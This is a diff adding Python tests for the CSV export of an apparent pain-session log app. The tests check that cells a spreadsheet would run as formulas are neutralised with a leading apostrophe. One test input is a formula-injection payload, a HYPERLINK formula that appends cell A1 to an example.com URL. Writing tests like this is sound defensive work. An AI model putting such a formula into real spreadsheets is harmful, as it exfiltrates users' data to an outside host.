@@ -185,7 +185,45 @@ def test_minutes_keep_a_half_minute() -> None:
 @given(st.text())
 def test_any_note_round_trips_through_csv(note: str) -> None:
     (row,) = csv_rows(exports.csv_text([by_hand(0, note=note)], tz=TZ))
-    assert row["note"] == note
+    formula = note.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert row["note"] == ("'" + note if formula else note)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("https://example.com/?"&A1,"more")',
+        "+1+2",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_text(text: str) -> None:
+    log = by_hand(0, note=text, protocol=text, pain_before=3, pain_after=4)
+    (row,) = csv_rows(exports.csv_text([log], tz=TZ))
+    assert (row["note"], row["protocol"]) == ("'" + text, "'" + text)
+    assert row["relief"] == "-1"  # a number stays a number
+
+
+def test_a_stop_note_cannot_start_a_cell() -> None:
+    log = replace(stopped(0), stop_note="=1+1")
+    (row,) = csv_rows(exports.csv_text([log], tz=TZ))
+    assert row["outcome"] == "stopped: pain increased (=1+1)"
+
+
+def test_an_unknown_length_is_left_empty_not_zero() -> None:
+    unknown, known = by_hand(0, seconds=0), by_hand(1, seconds=60)
+    rows = csv_rows(exports.csv_text([unknown, known], tz=TZ))
+    assert [row["minutes"] for row in rows] == ["", "1"]
+
+
+def test_a_session_whose_every_point_was_skipped_says_so() -> None:
+    skipped = guided(0, points=(), complete=False, steps=(step(0, "BL23", 3.0, skipped=True),))
+    (row,) = csv_rows(exports.csv_text([skipped], tz=TZ))
+    assert row["outcome"] == "no point pressed"
+    assert exports.outcome(replace(skipped, ended_at=None)) == "not finished"
 
 
 # --- JSON -----------------------------------------------------------------------------
